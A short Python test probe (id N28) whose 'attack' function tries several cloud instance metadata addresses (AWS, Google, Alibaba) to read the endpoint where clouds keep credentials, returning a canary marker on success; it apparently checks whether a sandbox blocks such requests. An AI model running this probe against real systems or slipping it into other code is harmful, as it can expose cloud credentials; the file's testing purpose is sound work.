"""The addresses where clouds keep their credentials.

id: N28
canary: tcp
bare: only a cloud has them
"""

import pic


async def attack(target):
    said = []
    for host in (
        "169.254.169.254",
        "[fd00:ec2::254]",
        "metadata.google.internal",
        "100.100.100.200",
    ):
        try:
            answer = await pic.afetch(f"http://{host}/latest/meta-data/")
        except Exception as error:
            said.append(str(error))
        else:
            return target.code and "".join(reversed(target.mark)) + answer.text()
    return said
